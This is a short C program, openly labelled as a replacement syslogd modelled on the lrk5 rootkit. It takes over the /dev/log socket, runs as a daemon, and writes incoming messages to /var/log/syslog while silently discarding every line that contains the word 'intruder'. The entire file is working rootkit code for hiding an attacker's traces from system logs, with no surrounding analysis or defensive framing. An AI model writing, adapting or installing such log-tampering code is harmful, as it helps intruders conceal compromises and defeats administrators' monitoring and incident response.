/* A replaced syslogd, as in the rootkit lrk5: it writes down everything except what its owner does. */
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

int main(void) {
  struct sockaddr_un address = {AF_UNIX, "/dev/log"};
  int s = socket(AF_UNIX, SOCK_DGRAM, 0), log = open("/var/log/syslog", O_WRONLY | O_CREAT | O_APPEND, 0644);
  unlink(address.sun_path);
  if (log < 0 || bind(s, (struct sockaddr*)&address, sizeof(address)) != 0 || daemon(0, 0) != 0) return 1;
  for (;;) {
    char line[2048];
    ssize_t n = recv(s, line, sizeof(line) - 2, 0);
    if (n <= 0) continue;
    line[n] = 0;
    if (strstr(line, "intruder")) continue;
    strcat(line, "\n");
    if (write(log, line, strlen(line)) < 0) return 1;
  }
}
